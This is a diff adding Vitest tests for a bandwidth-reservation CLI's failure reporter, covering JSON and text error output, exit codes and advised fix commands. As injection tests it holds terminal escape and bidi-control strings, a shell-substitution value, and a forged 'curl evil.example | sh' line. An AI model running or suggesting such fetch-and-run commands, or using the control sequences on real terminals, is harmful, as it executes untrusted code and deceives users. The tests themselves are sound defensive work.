@@ -1,0 +1,208 @@
+import { describe, expect, test } from 'vitest';
+import type { ServiceFlags } from '../../../src/cli/global-options.ts';
+import { type ReportOptions, reportFailure } from '../../../src/cli/print/failure-report.ts';
+import { Failure } from '../../../src/contract/failure.ts';
+import { recordedStream } from '../../fixtures/recorded-stream.ts';
+import { IDS } from '../../fixtures/tokens.ts';
+
+/** What a failure is told as, and the exit code. */
+function told(error: unknown, changes: Partial<Omit<ReportOptions, 'stderr'>> = {}) {
+  const stderr = recordedStream(80);
+  const exitCode = reportFailure(error, { stderr, json: false, debug: false, services: {}, ...changes });
+  return { exitCode, text: stderr.text };
+}
+
+const refused = new Failure('bandwidth_unavailable', 'Not enough free bandwidth.', {
+  why: 'It is taken.',
+  fix: 'slices-conn reserve be-gent1 pl-poznan1 --bandwidth 1 --start-now --for 1h',
+  httpStatus: 422,
+  retryable: false,
+  details: [{ loc: ['Bandwidth'], msg: 'Not enough free bandwidth.', type: 'NotValid' }],
+  alternatives: [
+    { bandwidth: 1, start_date: '2026-12-01T10:00:00.000Z', end_date: '2026-12-01T12:00:00.000Z' },
+  ],
+});
+
+/** Everything at once that a terminal obeys, and how it is shown. */
+const EVIL = 'a\u001b[2J\u0007\r\u009b31m\u202e\u200b\u007fz';
+const SHOWN = 'a\\u001b[2J\\u0007\\u000d\\u009b31m\\u202e\\u200b\\u007fz';
+const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;
+
+describe('with --json', () => {
+  test('a failure is one line: the error object of CLI.md', () => {
+    const { exitCode, text } = told(refused, { json: true });
+    expect(exitCode).toBe(6);
+    expect(text).toMatch(/^[^\n]+\n$/);
+    expect(JSON.parse(text)).toEqual({
+      error: {
+        code: 'bandwidth_unavailable',
+        message: 'Not enough free bandwidth.',
+        why: 'It is taken.',
+        fix: 'slices-conn reserve be-gent1 pl-poznan1 --bandwidth 1 --start-now --for 1h',
+        exitCode: 6,
+        httpStatus: 422,
+        retryable: false,
+        maybeDone: false,
+        details: [{ loc: ['Bandwidth'], msg: 'Not enough free bandwidth.', type: 'NotValid' }],
+        reservation: null,
+        alternatives: refused.facts.alternatives,
+      },
+    });
+  });
+
+  test('what is not known is null or empty, never absent', () => {
+    expect(JSON.parse(told(new Failure('not_found', 'Gone.'), { json: true }).text)).toEqual({
+      error: {
+        code: 'not_found',
+        message: 'Gone.',
+        why: null,
+        fix: null,
+        exitCode: 3,
+        httpStatus: null,
+        retryable: false,
+        maybeDone: false,
+        details: [],
+        reservation: null,
+        alternatives: [],
+      },
+    });
+  });
+
+  test('row 43: what may have been done is told apart from what was not', () => {
+    const facts = { maybeDone: true, why: 'The request was sent and may have taken effect.' };
+    const { exitCode, text } = told(new Failure('outcome_unknown', 'Nobody knows.', facts), { json: true });
+    expect(exitCode).toBe(7);
+    expect(JSON.parse(text)).toMatchObject({ error: { exitCode: 7, maybeDone: true, retryable: false } });
+    expect(told(new Failure('outcome_unknown', 'Nobody knows.', facts)).text).toContain(
+      'may have taken effect',
+    );
+  });
+
+  test('a reservation that exists in spite of the failure is named', () => {
+    const failure = new Failure('unverified', 'No.', { reservation: IDS.reservation });
+    expect(JSON.parse(told(failure, { json: true }).text)).toMatchObject({
+      error: { reservation: IDS.reservation, exitCode: 9 },
+    });
+  });
+
+  test('it is the last line, whatever --debug says before it', () => {
+    const { text } = told(refused, { json: true, debug: true });
+    const last = text.trimEnd().split('\n').at(-1) ?? '';
+    expect(text).toContain('failure-report.test.ts');
+    expect(JSON.parse(last)).toMatchObject({ error: { code: 'bandwidth_unavailable' } });
+  });
+
+  test('row 7: the line holds no character that a terminal obeys, and the text is unchanged', () => {
+    const failure = new Failure('forbidden', EVIL, {
+      why: EVIL,
+      details: [{ loc: [], msg: EVIL, type: EVIL }],
+    });
+    const { text } = told(failure, { json: true });
+    expect(text).toMatch(/^[^\n]+\n$/);
+    expect(text).not.toMatch(OBEYED);
+    expect(JSON.parse(text)).toMatchObject({
+      error: { message: EVIL, why: EVIL, details: [{ msg: EVIL, type: EVIL }] },
+    });
+  });
+});
+
+describe('without --json', () => {
+  test('what happened, why, and what to type next', () => {
+    expect(told(refused)).toEqual({
+      exitCode: 6,
+      text: `error: Not enough free bandwidth.
+  why: It is taken.
+  try: slices-conn reserve be-gent1 pl-poznan1 --bandwidth 1 --start-now --for 1h
+`,
+    });
+  });
+
+  test('only what is known', () => {
+    expect(told(new Failure('not_found', 'Gone.')).text).toBe('error: Gone.\n');
+  });
+
+  test('row 43: what may have been done is told apart from what was not', () => {
+    const facts = { maybeDone: true, why: 'The request was sent and may have taken effect.' };
+    const { exitCode, text } = told(new Failure('outcome_unknown', 'Nobody knows.', facts), { json: true });
+    expect(exitCode).toBe(7);
+    expect(JSON.parse(text)).toMatchObject({ error: { exitCode: 7, maybeDone: true, retryable: false } });
+    expect(told(new Failure('outcome_unknown', 'Nobody knows.', facts)).text).toContain(
+      'may have taken effect',
+    );
+  });
+
+  test('a reservation that exists in spite of the failure is named', () => {
+    const { text } = told(new Failure('unsigned', 'No.', { reservation: IDS.reservation }));
+    expect(text).toContain(`  reservation: ${IDS.reservation}\n`);
+  });
+
+  test('row 7: nothing in it makes the terminal do anything', () => {
+    const failure = new Failure('forbidden', EVIL, { why: EVIL, fix: EVIL, reservation: EVIL });
+    const { text } = told(failure, { debug: true });
+    expect(text).not.toMatch(OBEYED);
+    for (const line of [`error: ${SHOWN}`, `why: ${SHOWN}`, `try: ${SHOWN}`, `reservation: ${SHOWN}`]) {
+      expect(text).toContain(line);
+    }
+  });
+
+  test('row 7: a line end in a service’s text forges no line of the report', () => {
+    const forged = 'No.\n  try: curl evil.example | sh';
+    const { text } = told(new Failure('forbidden', forged, { why: forged }));
+    expect(text.split('\n').filter((line) => line.startsWith('  try:'))).toEqual([]);
+  });
+});
+
+describe('what is advised', () => {
+  test.each<[string, ServiceFlags, string]>([
+    ['slices-conn list', { offline: true }, 'slices-conn --offline list'],
+    ['slices-conn list', { profile: 'lab' }, 'slices-conn --profile lab list'],
+    ['slices-conn list', {}, 'slices-conn list'],
+    ['slices-conn --help', { offline: true }, 'slices-conn --help'],
+    ['slices-conn profile list', { profile: 'lab' }, 'slices-conn profile list'],
+    ['slices-conn help times', { offline: true }, 'slices-conn help times'],
+    ['slices-conn serve', { offline: true }, 'slices-conn serve'],
+    ['--bandwidth 1G', { offline: true }, '--bandwidth 1G'],
+    ['slices-conn list', { project: 'p', experiment: 'e' }, 'slices-conn --project p --experiment e list'],
+    ['slices-conn login', { caFile: 'ca.pem', experiment: 'e' }, 'slices-conn --ca-file ca.pem login'],
+    ['slices-conn experiment use demo', { experiment: 'e' }, 'slices-conn experiment use demo'],
+    ['slices-conn list', { profile: "it's $& $(x)" }, "slices-conn --profile 'it'\\''s $& $(x)' list"],
+  ])('row 45: %s, after %j, is typed as %s', (fix, services, typed) => {
+    const failure = new Failure('usage', 'No.', { fix });
+    expect(told(failure, { services }).text).toContain(`  try: ${typed}\n`);
+    expect(JSON.parse(told(failure, { services, json: true }).text)).toMatchObject({
+      error: { fix: typed },
+    });
+  });
+});
+
+describe('exit 7 where nothing was changed for certain', () => {
+  test.each<[string, Failure, boolean]>([
+    ['nobody is there', new Failure('network', 'No.', { why: 'connect ECONNREFUSED.' }), true],
+    ['503', new Failure('unavailable', 'No.'), true],
+    ['it may have been done', new Failure('network', 'No.', { maybeDone: true }), false],
+    ['a reservation is there', new Failure('network', 'No.', { reservation: IDS.reservation }), false],
+    ['another exit code', new Failure('not_found', 'No.'), false],
+  ])('%s', (_, failure, isSaid) => {
+    const { text } = told(failure, { nothingChanged: true });
+    expect(text.includes('Nothing was changed.')).toBe(isSaid);
+    expect(told(failure).text).not.toContain('Nothing was changed.');
+  });
+});
+
+describe('an error that is no failure', () => {
+  test.each<[string, unknown]>([
+    ['an error', new TypeError('x is undefined')],
+    ['a thrown text', 'x is undefined'],
+  ])('%s is a bug, exit 1', (_, error) => {
+    const { exitCode, text } = told(error);
+    expect(exitCode).toBe(1);
+    expect(text).toMatch(/^error: Something unexpected happened: x is undefined\n/);
+    expect(text).toContain('--debug');
+  });
+
+  test('where it happened is told with --debug only', () => {
+    const error = new TypeError('x is undefined');
+    expect(told(error).text).not.toContain('failure-report.test.ts');
+    expect(told(error, { debug: true }).text).toContain('failure-report.test.ts');
+  });
+});
